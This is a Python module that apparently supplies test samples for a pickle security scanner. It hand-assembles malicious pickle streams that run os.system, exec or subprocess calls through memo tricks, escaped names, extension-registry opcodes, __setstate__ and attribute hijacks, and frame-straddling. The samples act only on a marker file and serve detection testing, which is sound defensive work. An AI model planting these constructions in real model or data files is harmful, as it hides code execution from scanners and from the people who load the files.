"""Memo, opcode and implicit-call tricks.

The callable is ordinary (os.system, exec, subprocess.call); what these samples test is whether
the scanner sees it. Names are routed through the memo, DUP, escaped text opcodes or py2 names;
calls happen through INST, OBJ, NEWOBJ(_EX), BUILD (``__setstate__``), APPENDS (``extend``),
APPEND (``append``), SETITEMS (``__setitem__``) and ADDITEMS (``add``) on non-builtin objects;
EXT opcodes name a callable through the copyreg extension registry; FRAME headers are abused.
"""

from __future__ import annotations

import builtins
import marshal
import pickle
import struct
from pathlib import Path

from . import Sample
from ._asm import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BINPERSID,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    POP,
    POP_MARK,
    REDUCE,
    STACK_GLOBAL,
    Ops,
    binget,
    binput,
    call,
    frame,
    get,
    glob,
    lit,
    long_binget,
    long_binput,
    memoize,
    ops,
    put,
    sglob,
    text,
    tup,
)
from ._common import Reduce, argv, code, raw, shell

M = "malicious"
S = "suspicious"


def _code_object(marker: Path) -> Ops:
    return call(glob("marshal", "loads"), marshal.dumps(compile(code(marker), "<model>", "exec")))


def _namespace_with(attrs: dict[str, Ops]) -> Ops:
    """A types.SimpleNamespace whose instance attributes are set by BUILD."""
    return call(glob("types", "SimpleNamespace")) + lit(attrs) + BUILD


def _system_call_from_memo(module_ops: Ops, name_ops: Ops, marker: Path) -> Ops:
    return module_ops + name_ops + STACK_GLOBAL + tup(shell(marker)) + REDUCE


def _ext_sample(opcode: bytes, number: int, fmt: str) -> Sample:
    size = {"B": 1, "H": 2, "I": 4}[fmt]
    label = {1: "ext1", 2: "ext2", 4: "ext4"}[size]
    return raw(
        f"opcode-{label}-extension-registry",
        f"{label.upper()} opcode pushes the callable registered as extension code {number} "
        "with copyreg.add_extension in the victim process: the pickle never names os.system, "
        "so the scanner cannot resolve it and must flag the opcode itself.",
        lambda m: Ops(opcode + struct.pack("<" + fmt, number)) + tup(shell(m)) + REDUCE,
        S,
        setup=f"import copyreg\ncopyreg.add_extension('os', 'system', {number})",
    )


def _real_pickler(protocol: int) -> Sample:
    def body(marker: Path) -> bytes:
        return pickle.dumps(Reduce(builtins.exec, code(marker)), protocol=protocol)

    return raw(
        f"proto{protocol}-exec-real-pickler",
        f"The standard pickler's protocol-{protocol} encoding of exec(src) "
        + (
            "(py2 name __builtin__ in a text GLOBAL)."
            if protocol < 3
            else "(builtins, binary opcodes)."
        ),
        body,
        M,
        complete=True,
    )


def _frames_per_opcode(marker: Path) -> bytes:
    pieces = [
        lit("builtins"),
        lit("exec"),
        STACK_GLOBAL,
        lit(code(marker)),
        Ops(b"\x85"),
        REDUCE,
        POP,
        EMPTY_DICT,
    ]
    return b"\x80\x04" + b"".join(frame(p) for p in pieces) + b"."


def _zero_frames(marker: Path) -> bytes:
    pieces = [lit("builtins"), lit("exec"), STACK_GLOBAL, lit(code(marker)), Ops(b"\x85"), REDUCE]
    return b"\x80\x04" + b"".join(frame(b"", 0) + p for p in pieces) + frame(b"", 0) + b"."


def _frame_straddle(marker: Path) -> bytes:
    """A BINBYTES whose declared length runs past a short FRAME (cpython issue 154848, as used in
    fickling's tests): a file-reading C unpickler resumes inside the 'bytes' and runs the hidden
    GLOBAL/REDUCE, while an opcode walker that honours the declared length sees one bytes object."""
    hidden = glob("os", "system") + text(shell(marker)) + Ops(b"\x85") + REDUCE
    filler = b"a" * (8192 * 16 - 17)
    return (
        b"\x80\x05"
        + b"N"
        + b"V"
        + filler
        + b"\n"
        + b"0"
        + b"("
        + b"\x95"
        + struct.pack("<Q", 2)
        + b"B"
        + struct.pack("<I", 0x107)
        + b"\x00\x00"
        + bytes(hidden + MARK).ljust(256 + 5, b"N")
        + b"1"
        + b"."
    )


SAMPLES: list[Sample] = [
    # ---------------------------------------------------------------- memo routing
    raw(
        "memo-binput-binget-stack-global",
        "STACK_GLOBAL whose 'os' and 'system' strings were stored with BINPUT and popped long "
        "before; "
        "BINGET brings them back right before STACK_GLOBAL, next to decoy torch strings.",
        lambda m: (
            ops(
                "os",
                binput(0),
                POP,
                "system",
                binput(1),
                POP,
                "torch._utils",
                binput(2),
                POP,
                "_rebuild_tensor_v2",
                binput(3),
                POP,
            )
            + _system_call_from_memo(binget(0), binget(1), m)
        ),
        M,
        proto=4,
    ),
    raw(
        "memo-memoize-binput-mixed",
        "Dangerous names stored with BINPUT 0/1, safe names with MEMOIZE (which takes indices "
        "2/3); a "
        "scanner that numbers MEMOIZE from zero believes BINGET 0/1 fetch the torch names.",
        lambda m: (
            ops(
                "os",
                binput(0),
                POP,
                "system",
                binput(1),
                POP,
                "torch._utils",
                memoize(),
                POP,
                "_rebuild_tensor_v2",
                memoize(),
                POP,
            )
            + _system_call_from_memo(binget(0), binget(1), m)
        ),
        M,
        proto=4,
        advisory="https://github.com/mmaitre314/picklescan/issues/14",
    ),
    raw(
        "memo-long-binput-binget",
        "Names routed through LONG_BINPUT/LONG_BINGET at memo index 100000.",
        lambda m: (
            ops("os", long_binput(100000), POP, "system", long_binput(100001), POP)
            + _system_call_from_memo(long_binget(100000), long_binget(100001), m)
        ),
        M,
        proto=4,
    ),
    raw(
        "memo-text-put-get-no-proto",
        "Protocol-0 text UNICODE/PUT/GET (no PROTO header) feeding STACK_GLOBAL, with decoy "
        "torch LongStorage strings in the memo (imaginaryctf 'Safe Pickle').",
        lambda m: (
            text("os")
            + put(2)
            + POP
            + text("system")
            + put(3)
            + POP
            + text("torch")
            + put(0)
            + POP
            + text("LongStorage")
            + put(1)
            + POP
            + get(2)
            + get(3)
            + STACK_GLOBAL
            + MARK
            + text(shell(m))
            + Ops(b"t")
            + REDUCE
        ),
        M,
        proto=None,
        advisory="https://github.com/mmaitre314/picklescan/issues/22",
    ),
    raw(
        "memo-overwrite-slot",
        "Memo slot 0 first holds 'collections', then is overwritten with 'os'; a scanner that "
        "keeps "
        "the first value per slot resolves collections.system.",
        lambda m: (
            ops("collections", binput(0), POP, "OrderedDict", binput(1), POP)
            + ops("os", binput(0), POP, "system", binput(1), POP)
            + _system_call_from_memo(binget(0), binget(1), m)
        ),
        M,
        proto=4,
    ),
    raw(
        "memo-callable-fetched-later",
        "os.system is resolved, memoized and popped at the start; much later BINGET fetches it for "
        "REDUCE, far from any GLOBAL opcode.",
        lambda m: (
            glob("os", "system")
            + binput(7)
            + POP
            + lit({"layer": [1.0, 2.0, 3.0], "name": "decoy"})
            + POP
            + binget(7)
            + tup(shell(m))
            + REDUCE
        ),
        M,
    ),
    raw(
        "opcode-dup-module-is-name",
        "One string 'timeit' DUPed into both STACK_GLOBAL operands: timeit.timeit(stmt, "
        "setup=src).",
        lambda m: lit("timeit") + DUP + STACK_GLOBAL + tup("pass", code(m)) + REDUCE,
        M,
        proto=4,
    ),
    # ---------------------------------------------------------------- odd name encodings
    raw(
        "opcode-stack-global-unicode-escapes",
        "STACK_GLOBAL operands from protocol-0 UNICODE opcodes written with \\u escapes "
        "('o\\u0073', 'sy\\u0073tem'): the raw bytes never contain 'os' or 'system'.",
        lambda m: (
            Ops(b"Vo\\u0073\n") + Ops(b"Vsy\\u0073tem\n") + STACK_GLOBAL + tup(shell(m)) + REDUCE
        ),
        M,
        proto=4,
    ),
    raw(
        "opcode-stack-global-short-binstring",
        "STACK_GLOBAL operands pushed with SHORT_BINSTRING (py2 str opcodes, decoded to str).",
        lambda m: Ops(b"U\x02os") + Ops(b"U\x06system") + STACK_GLOBAL + tup(shell(m)) + REDUCE,
        M,
        proto=4,
    ),
    raw(
        "opcode-stack-global-binunicode8",
        "STACK_GLOBAL operands pushed with BINUNICODE8 (8-byte length).",
        lambda m: (
            Ops(b"\x8d" + struct.pack("<Q", 2) + b"os")
            + Ops(b"\x8d" + struct.pack("<Q", 6) + b"system")
            + STACK_GLOBAL
            + tup(shell(m))
            + REDUCE
        ),
        M,
        proto=4,
    ),
    raw(
        "opcode-global-dotted-name-proto4",
        "A text GLOBAL 'torch.serialization' / 'os.system': after PROTO 4 the unpickler walks the "
        "dotted name, so a benign module yields os.system.",
        lambda m: call(glob("torch.serialization", "os.system"), shell(m)),
        M,
        proto=4,
    ),
    raw(
        "opcode-py2-builtin-eval",
        "Protocol-2 GLOBAL '__builtin__ eval' (py2 name mapped to builtins.eval).",
        lambda m: call(glob("__builtin__", "eval"), code(m)),
        M,
    ),
    # ---------------------------------------------------------------- calls without REDUCE
    raw(
        "opcode-inst-os-system",
        "Protocol-0 INST 'os system' calls os.system(cmd) with no REDUCE opcode.",
        lambda m: MARK + text(shell(m)) + Ops(b"ios\nsystem\n"),
        M,
        proto=None,
    ),
    raw(
        "opcode-obj-os-system",
        "OBJ opcode: MARK, the callable and its argument, OBJ calls os.system(cmd).",
        lambda m: MARK + glob("os", "system") + lit(shell(m)) + OBJ,
        M,
        proto=None,
    ),
    raw(
        "opcode-newobj-functiontype",
        "NEWOBJ on types.FunctionType builds a function from a marshalled code object, then REDUCE "
        "calls it.",
        lambda m: (
            glob("types", "FunctionType") + tup(_code_object(m), {}) + NEWOBJ + EMPTY_TUPLE + REDUCE
        ),
        M,
    ),
    raw(
        "opcode-newobj-ex-functiontype-kwargs",
        "NEWOBJ_EX on types.FunctionType with keyword arguments code= and globals=.",
        lambda m: (
            glob("types", "FunctionType")
            + EMPTY_TUPLE
            + lit({"code": _code_object(m), "globals": {}})
            + NEWOBJ_EX
            + EMPTY_TUPLE
            + REDUCE
        ),
        M,
        proto=4,
    ),
    raw(
        "opcode-build-instance-setstate",
        "Two BUILDs on a SimpleNamespace: the first sets an instance attribute __setstate__ = "
        "exec, "
        "the second BUILD then calls exec(src) implicitly.",
        lambda m: (
            call(glob("types", "SimpleNamespace"))
            + lit({"__setstate__": glob("builtins", "exec")})
            + BUILD
            + lit(code(m))
            + BUILD
        ),
        M,
    ),
    raw(
        "opcode-build-class-setstate-hijack",
        "BUILD with slot state on the class pathlib.PosixPath sets PosixPath.__setstate__ = "
        "Path.write_text; a later BUILD on a PosixPath instance writes the file.",
        lambda m: (
            sglob("pathlib", "PosixPath")
            + tup(None, {"__setstate__": sglob("pathlib", "Path.write_text")})
            + BUILD
            + POP
            + call(sglob("pathlib", "PosixPath"), str(m))
            + lit("x")
            + BUILD
        ),
        M,
        proto=4,
    ),
    raw(
        "opcode-build-module-monkeypatch",
        "BUILD on the module torch._utils replaces _rebuild_tensor_v2 with Path.write_text; the "
        "call site then looks like an ordinary tensor rebuild.",
        lambda m: (
            sglob("torch", "_utils")
            + tup(None, {"_rebuild_tensor_v2": sglob("pathlib", "Path.write_text")})
            + BUILD
            + POP
            + call(
                sglob("torch._utils", "_rebuild_tensor_v2"),
                call(sglob("pathlib", "PosixPath"), str(m)),
                "x",
            )
        ),
        M,
        proto=4,
    ),
    raw(
        "opcode-build-module-dict-tofile",
        "BUILD with a dict state on the module torch._utils sets _rebuild_parameter = "
        "numpy.ndarray.tofile; calling the 'parameter rebuild' writes an array to any path.",
        lambda m: (
            sglob("torch", "_utils")
            + lit({"_rebuild_parameter": sglob("numpy", "ndarray.tofile")})
            + BUILD
            + POP
            + call(
                sglob("torch._utils", "_rebuild_parameter"),
                call(sglob("numpy", "zeros"), 1),
                str(m),
            )
        ),
        M,
        proto=4,
    ),
    raw(
        "opcode-build-function-code-swap",
        "BUILD slot state on the function torch._utils._rebuild_tensor_v2 replaces its __code__ "
        "with "
        "marshalled bytecode; calling the allowlisted function then runs the payload.",
        lambda m: (
            glob("torch._utils", "_rebuild_tensor_v2")
            + tup(None, {"__code__": _code_object(m)})
            + BUILD
            + EMPTY_TUPLE
            + REDUCE
        ),
        M,
    ),
    raw(
        "opcode-appends-extend-hijack",
        "APPENDS on a SimpleNamespace whose 'extend' attribute is subprocess.call: the unpickler "
        "calls extend([argv...]) implicitly.",
        lambda m: (
            _namespace_with({"extend": glob("subprocess", "call")}) + MARK + ops(*argv(m)) + APPENDS
        ),
        M,
    ),
    raw(
        "opcode-append-append-hijack",
        "APPEND on an object without 'extend' falls back to its 'append' attribute, here exec.",
        lambda m: _namespace_with({"append": glob("builtins", "exec")}) + lit(code(m)) + APPEND,
        M,
    ),
    raw(
        "opcode-setitems-class-hijack",
        "BUILD sets argparse.Namespace.__setitem__ = staticmethod(subprocess.call) on the class; "
        "SETITEMS on an instance then calls subprocess.call(argv, -1).",
        lambda m: (
            sglob("argparse", "Namespace")
            + tup(
                None,
                {
                    "__setitem__": call(
                        sglob("builtins", "staticmethod"), sglob("subprocess", "call")
                    )
                },
            )
            + BUILD
            + POP
            + call(sglob("argparse", "Namespace"))
            + MARK
            + lit(argv(m))
            + lit(-1)
            + Ops(b"u")
        ),
        M,
        proto=4,
    ),
    raw(
        "opcode-additems-add-hijack",
        "ADDITEMS on a SimpleNamespace whose 'add' attribute is exec.",
        lambda m: (
            _namespace_with({"add": glob("builtins", "exec")}) + MARK + lit(code(m)) + ADDITEMS
        ),
        M,
        proto=4,
    ),
    raw(
        "opcode-ext-registered-in-pickle",
        "The pickle itself calls copyreg.add_extension('os', 'system', n), then EXT2 n pushes "
        "os.system: the module and name only ever appear as plain string arguments.",
        lambda m: (
            call(glob("copyreg", "add_extension"), "os", "system", 0x7001)
            + POP
            + Ops(b"\x83" + struct.pack("<H", 0x7001))
            + tup(shell(m))
            + REDUCE
        ),
        M,
    ),
    _ext_sample(b"\x82", 0xF0, "B"),
    _ext_sample(b"\x83", 0x1234, "H"),
    _ext_sample(b"\x84", 0x1234567, "I"),
    raw(
        "opcode-binpersid-payload-plain-pickle",
        "The persistent id tuple is built by REDUCE(os.system); BINPERSID then fails in a plain "
        "unpickler, after the payload already ran.",
        lambda m: call(glob("os", "system"), shell(m)) + BINPERSID,
        M,
    ),
    raw(
        "opcode-pop-mark-discards-call",
        "The payload runs inside a MARK that POP_MARK discards; the loaded value is an empty dict, "
        "so 'unused result' heuristics see nothing.",
        lambda m: MARK + call(glob("builtins", "exec"), code(m)) + POP_MARK + EMPTY_DICT,
        M,
    ),
    # ---------------------------------------------------------------- frames
    raw(
        "frame-one-opcode-per-frame",
        "Protocol 4 with every opcode in its own FRAME.",
        _frames_per_opcode,
        M,
        complete=True,
    ),
    raw(
        "frame-zero-length-frames",
        "Zero-length FRAMEs interleaved every few bytes, splitting opcodes from their arguments "
        "for framing-naive readers.",
        _zero_frames,
        M,
        complete=True,
    ),
    raw(
        "frame-straddle-hidden-global",
        "A BINBYTES that straddles a 2-byte FRAME: C pickle.load on a file runs GLOBAL os.system "
        "hidden inside what an opcode walker reads as bytes (cpython issue 154848).",
        _frame_straddle,
        M,
        complete=True,
        advisory="https://github.com/python/cpython/issues/154848",
    ),
    raw(
        "proto5-exec-bytearray8",
        "Protocol 5 with the source carried as BYTEARRAY8 behind READONLY_BUFFER, turned into "
        "bytes "
        "for exec.",
        lambda m: call(
            glob("builtins", "exec"),
            call(
                glob("builtins", "bytes"),
                Ops(b"\x96" + struct.pack("<Q", len(code(m))) + code(m).encode()) + Ops(b"\x98"),
            ),
        ),
        M,
        proto=5,
    ),
    *[_real_pickler(p) for p in range(6)],
]
